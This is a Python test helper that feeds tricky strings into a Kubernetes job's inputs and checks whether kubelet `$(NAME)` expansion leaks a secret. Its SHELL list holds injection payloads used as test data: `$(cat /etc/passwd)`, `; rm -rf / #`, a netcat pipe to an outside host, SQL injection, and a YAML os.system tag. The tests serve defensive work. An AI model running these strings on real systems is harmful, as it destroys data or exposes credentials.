"""Texts that look like a template, a shell command or a variable, and what a program gets of them.

What the kubelet does to environment values (it expands `$(NAME)`) is done here to what was asked
for.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import yaml

CORPUS = Path(__file__).parents[1] / "corpus" / "escapes.yaml"
TEMPLATES = [r["template"] for r in yaml.safe_load(CORPUS.read_text(encoding="utf-8"))["escapes"]]
SHELL = [
    "$(SECRET)",
    "$$(SECRET)",
    "$$$(SECRET)",
    "$(SECRET",
    "${SECRET}",
    "$SECRET",
    "$((1+1))",
    "$(cat /etc/passwd)",
    "`id`",
    "; rm -rf / #",
    "| nc example.com 80 &",
    "' OR '1'='1",
    '"; DROP TABLE users; --',
    "a\nb\r\nc\td",
    "\\x24(SECRET)",
    "%s%n%x",
    "{{ steps.a.output }}",
    "{{ '{{' }} x }}",
    "{%",
    "}}",
    "${{ secrets.TOKEN }}",
    "<%= 1 %>",
    "#{1}",
    "@@x",
    "\u2028\u202e",
    "grüße 👋 \U0001f600",
    "\\u0024(SECRET)",
    "!!python/object:os.system x",
    "- a: b",
    "null",
    "0x10",
    "=1+1",
]


def kubelet_expands(value: str, env: dict[str, str]) -> str:
    """As Kubernetes documents it: `$(NAME)` is replaced if NAME is known, `$$` is one `$`."""

    def replace(found: re.Match[str]) -> str:
        if found[0] == "$$":
            return "$"
        return env.get(found[1], found[0])

    return re.sub(r"\$\$|\$\(([A-Za-z_][A-Za-z0-9_]*)\)", replace, value)


def environment(job: dict[str, Any]) -> dict[str, str]:
    """What the program finds in its environment, the Action's secret among it."""
    [container] = job["spec"]["template"]["spec"]["containers"]
    env = {"SECRET": "hunter2", "steps": "x"}
    for row in container["env"]:
        if "value" in row:
            env[row["name"]] = kubelet_expands(row["value"], env)
    return env


def received(job: dict[str, Any], maps: dict[str, dict[str, Any]] | None = None) -> dict[str, Any]:
    """The input as the program finds it: in its variable, or in the file from a ConfigMap."""
    env = environment(job)
    if "ACTION_INPUT" in env:
        found: dict[str, Any] = json.loads(env["ACTION_INPUT"])
        return found
    [volume] = job["spec"]["template"]["spec"]["volumes"]
    assert maps is not None
    held: dict[str, Any] = json.loads(maps[volume["configMap"]["name"]]["data"]["data.json"])
    return held


TEXTS = [*SHELL, *TEMPLATES]
